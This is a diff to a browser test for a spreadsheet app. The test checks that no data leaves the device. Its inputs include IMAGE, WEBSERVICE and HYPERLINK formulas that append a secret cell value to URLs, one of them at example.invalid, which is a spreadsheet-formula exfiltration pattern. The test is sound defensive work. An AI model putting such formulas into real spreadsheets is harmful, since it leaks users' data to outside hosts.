@@ -1,11 +1,14 @@
 import { join } from "node:path";
 import { expect, it } from "vitest";
 import { describeInBrowser, home, joinBrowser } from "./browser";
-import { openPage } from "./pageSession";
+import { firstSheet, openPage } from "./pageSession";
 
 describeInBrowser("everything stays on the device", () => {
   it("lists every request of a session, and everything that is stored", async () => {
-    const session = await openPage(await joinBrowser(), home, { serviceWorkers: "allow" });
+    const session = await openPage(await joinBrowser(), home, {
+      demo: firstSheet,
+      serviceWorkers: "allow",
+    });
     const { page, context } = session;
     // The service worker's own requests are the context's, not the page's.
     const asked: string[] = [];
@@ -14,9 +17,12 @@ describeInBrowser("everything stays on the device", () => {
 
     const sheet = await session.addSheet();
     await session.type("secret");
-    await session.type('=IMAGE("icons/x?"&A1)');
-    await session.type('=WEBSERVICE("icons/y?"&A1)');
-    await session.type('=HYPERLINK("https://example.invalid/"&A1,"there")');
+    await session.fill("A2", [
+      ['=IMAGE("icons/x?"&A1)'],
+      ['=WEBSERVICE("icons/y?"&A1)'],
+      ['=HYPERLINK("https://example.invalid/"&A1,"there")'],
+    ]);
+    await session.go("A5");
     await session.type("=SPARE.E1RM(100,5)");
     await session.shows(sheet, "A5").toBeCloseTo(116.6667, 3);
     await session.openFile(join(import.meta.dirname, "../xlsx/files/xlsxwriter.xlsx"));
